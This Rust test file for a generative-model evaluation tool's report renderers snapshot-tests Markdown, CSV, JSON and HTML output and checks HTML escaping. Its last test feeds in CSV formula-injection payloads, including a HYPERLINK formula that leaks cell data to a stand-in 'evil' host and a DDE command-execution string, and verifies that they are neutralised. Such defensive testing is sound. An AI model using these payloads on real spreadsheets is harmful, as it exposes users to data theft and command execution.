//! Snapshot tests of every format on one small, fixed report.

use super::*;
use crate::read::{Records, SourcedRecord};
use crate::record::{InputRecord, ModelRecord, ResultRecord};
use crate::report::ReportOptions;

fn record(metric: &str, labels: &[(&str, &str)], at: &str) -> ResultRecord {
    let mut r = ResultRecord::new(metric, "0.1.0", at.into());
    r.model = Some(ModelRecord {
        name: "builtin".into(),
        id: Some("builtin-randconv-v1".into()),
    });
    r.mode = Some("pytorch-fid".into());
    r.inputs = vec![InputRecord {
        path: "data/real".into(),
        kind: "images".into(),
        count: Some(500),
        dim: Some(256),
        sha256: None,
        content_sha256: None,
    }];
    for (k, v) in labels {
        r.labels.insert((*k).into(), (*v).into());
    }
    r.command = Some(format!(
        "geneval {metric} data/real samples/ --model builtin{}",
        labels
            .iter()
            .map(|(k, v)| format!(" --label {k}={v}"))
            .collect::<String>()
    ));
    r
}

/// Two checkpoints of two models (one named with markup, to see it
/// escaped), FID/KID/IS/PRDC, a repeated FID run, one self-check.
pub(crate) fn sample_records() -> Records {
    let mut list = Vec::new();
    let models = [
        ("ours", [31.2, 18.4]),
        ("<b>baseline</b> & \"v2\"", [35.0, 24.9]),
    ];
    for (model, fids) in models {
        for (s, step) in ["1000", "2000"].iter().enumerate() {
            let labels = [("model", model), ("step", *step)];
            let at = format!("2026-11-2{}T10:00:00Z", s + 1);
            let mut fid = record("fid", &labels, &at);
            fid.value = Some(fids[s]);
            fid.set("fid", fids[s]);
            list.push(fid);
            let mut kid = record("kid", &labels, &at);
            kid.value = Some(fids[s] / 1000.0);
            kid.uncertainty = Some(0.0004 + s as f64 * 0.0001);
            list.push(kid);
            let mut is = record("is", &labels, &at);
            is.value = Some(6.0 - fids[s] / 20.0);
            is.uncertainty = Some(0.12);
            list.push(is);
        }
        let mut prdc = record(
            "prdc",
            &[("model", model), ("step", "2000")],
            "2026-11-22T11:00:00Z",
        );
        let base = if model == "ours" { 0.1 } else { 0.0 };
        prdc.set("precision", 0.62 + base)
            .set("recall", 0.55 + base)
            .set("density", 0.91 + base)
            .set("coverage", 0.58 + base);
        list.push(prdc);
    }
    // A second FID run of ours at step 2000.
    let mut again = record(
        "fid",
        &[("model", "ours"), ("step", "2000")],
        "2026-11-23T09:00:00Z",
    );
    again.value = Some(18.8);
    list.push(again);
    // A record warning, shared.
    for r in list.iter_mut().take(2) {
        r.warnings.push(
            "features from geneval's built-in network: not comparable with published numbers"
                .into(),
        );
    }
    let mut sc = record("selfcheck", &[], "2026-11-23T12:00:00Z");
    sc.command = Some("geneval selfcheck --model builtin --n 40".into());
    sc.seed = Some(0);
    sc.setting("n", 40u64)
        .setting("size", 32u64)
        .setting("classes", 10u64);
    let row = |set: &str, kind: &str, level: f64, k: f64| {
        serde_json::json!({"set": set, "disturbance": kind, "level": level,
            "fid": 0.45 + 3.0 * k, "kid": -0.003 + 0.02 * k, "is": 2.9 - k,
            "precision": 0.97 - 0.4 * k, "recall": 0.95 - 0.5 * k,
            "density": 1.02 - 0.6 * k, "coverage": 0.9 - 0.7 * k})
    };
    sc.setting(
        "sets",
        vec![
            row("clean", "none", 0.0, 0.0),
            row("noise_0.1", "noise", 0.1, 0.2),
            row("noise_0.5", "noise", 0.5, 0.6),
            row("blur_1", "blur", 1.0, 0.1),
            row("blur_4", "blur", 4.0, 0.5),
            row("keep_8_classes", "mode-dropping", 8.0, 0.15),
            row("keep_2_classes", "mode-dropping", 2.0, 0.7),
        ],
    );
    sc.setting(
        "checks",
        vec![
            serde_json::json!({"name": "FID rises with noise", "passed": true, "required": true, "detail": "clean 0.4500 < 1.050 < 2.250"}),
            serde_json::json!({"name": "KID rises with blur", "passed": false, "required": true, "detail": "clean -0.0030 → -0.0010"}),
            serde_json::json!({"name": "precision falls with noise", "passed": false, "required": false, "detail": "clean 0.9700 → 0.9800"}),
        ],
    );
    sc.passed = Some(false);
    list.push(sc);
    Records {
        records: list
            .into_iter()
            .enumerate()
            .map(|(i, record)| SourcedRecord {
                record,
                source: format!("results/runs.jsonl:{}", i + 1),
            })
            .collect(),
        warnings: vec![
            "results/runs.jsonl:19: ignored an incomplete last line (an interrupted append?)"
                .into(),
        ],
        files: Vec::new(),
    }
}

pub(crate) fn sample_report() -> Report {
    let options = ReportOptions {
        title: "Checkpoints <ours> vs baseline".into(),
        generated_at: "2026-11-29T12:00:00Z".into(),
        ..ReportOptions::default()
    };
    Report::from_records(&sample_records(), &options).unwrap()
}

#[test]
fn markdown_snapshot() {
    insta::assert_snapshot!(markdown::render(&sample_report()));
}

#[test]
fn csv_snapshot() {
    let bytes = csv::render(&sample_report()).unwrap();
    insta::assert_snapshot!(String::from_utf8(bytes).unwrap());
}

#[test]
fn json_snapshot() {
    let bytes = json::render(&sample_report());
    insta::assert_snapshot!(String::from_utf8(bytes).unwrap());
}

/// The page without its charts (their drawing is the charts module's and
/// has its own tests); the charts are checked below.
#[test]
fn html_snapshot() {
    let mut report = sample_report();
    report.charts.clear();
    insta::assert_snapshot!(html::render(&report));
}

#[test]
fn html_is_self_contained_and_escaped() {
    let report = sample_report();
    let page = html::render(&report);
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert!(page.contains("<meta charset=\"utf-8\">"));
    assert!(page.contains("<title>Checkpoints &lt;ours&gt; vs baseline</title>"));
    assert!(
        !page.contains("http://") && !page.contains("https://"),
        "no URL"
    );
    assert!(!page.contains("<script"), "no script");
    assert!(!page.contains("<b>baseline</b>"), "labels are escaped");
    assert!(page.contains("&lt;b&gt;baseline&lt;/b&gt; &amp; &quot;v2&quot;"));
    assert!(page.contains("<details class=\"provenance\">"));
    // Every chart is either drawn inline or said to be omitted.
    let drawn = page.matches("<svg").count();
    let omitted = page.matches("chart omitted").count();
    assert_eq!(drawn + omitted, report.charts.len());
    assert!(report.charts.len() >= 8, "{}", report.charts.len());
}

#[test]
fn formats_from_file_names() {
    use std::path::Path;
    assert_eq!(Format::from_path(Path::new("r.HTML")), Some(Format::Html));
    assert_eq!(Format::from_path(Path::new("r.md")), Some(Format::Markdown));
    assert_eq!(Format::from_path(Path::new("a/r.csv")), Some(Format::Csv));
    assert_eq!(Format::from_path(Path::new("r.json")), Some(Format::Json));
    assert_eq!(Format::from_path(Path::new("r.txt")), None);
    assert_eq!(Format::from_path(Path::new("report")), None);
}

#[test]
fn markdown_escapes_table_breaking_text() {
    assert_eq!(markdown::escape("a|b <i>\nc"), "a\\|b &lt;i&gt; c");
    let md = markdown::render(&sample_report());
    assert!(
        md.contains("| **18.60 ± 0.28** (mean ± std of 2 runs) |"),
        "{md}"
    );
    assert!(md.contains("FID ↓") && md.contains("IS ↑"));
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted() {
    let hostile = [
        "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "@SUM(1+1)",
        "\tTAB",
        "\rCR",
    ];
    let mut list = Vec::new();
    for (i, model) in hostile.iter().chain(["-1", "plain"].iter()).enumerate() {
        let mut fid = record("fid", &[("model", model)], "2026-11-21T10:00:00Z");
        fid.value = Some(-(i as f64) - 0.5);
        list.push(fid);
    }
    let records = Records {
        records: list
            .into_iter()
            .enumerate()
            .map(|(i, record)| SourcedRecord {
                record,
                source: format!("r.jsonl:{}", i + 1),
            })
            .collect(),
        ..Records::default()
    };
    let report = Report::from_records(&records, &ReportOptions::default()).unwrap();
    let text = String::from_utf8(csv::render(&report).unwrap()).unwrap();
    for model in hostile {
        assert!(
            !text.contains(&format!("\n{model},")),
            "{model:?} unquoted: {text}"
        );
        assert!(
            !text.contains(&format!("\n\"{model}")),
            "{model:?} unquoted: {text}"
        );
    }
    assert!(
        text.contains("\n\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",-0.5,"),
        "{text}"
    );
    assert!(text.contains("\n'@SUM(1+1),-3.5,"), "{text}");
    assert!(text.contains("\n'-2+3+cmd,-2.5,"), "{text}");
    // A label that is a number, and negative numbers in numeric columns,
    // are left alone.
    assert!(text.contains("\n-1,-6.5,"), "{text}");
    assert!(text.contains("\nplain,-7.5,"), "{text}");
    assert_eq!(csv::escape_formula("=1+1"), "'=1+1");
    assert_eq!(csv::escape_formula("-1.5e3"), "-1.5e3");
    assert_eq!(csv::escape_formula("a=b"), "a=b");
}
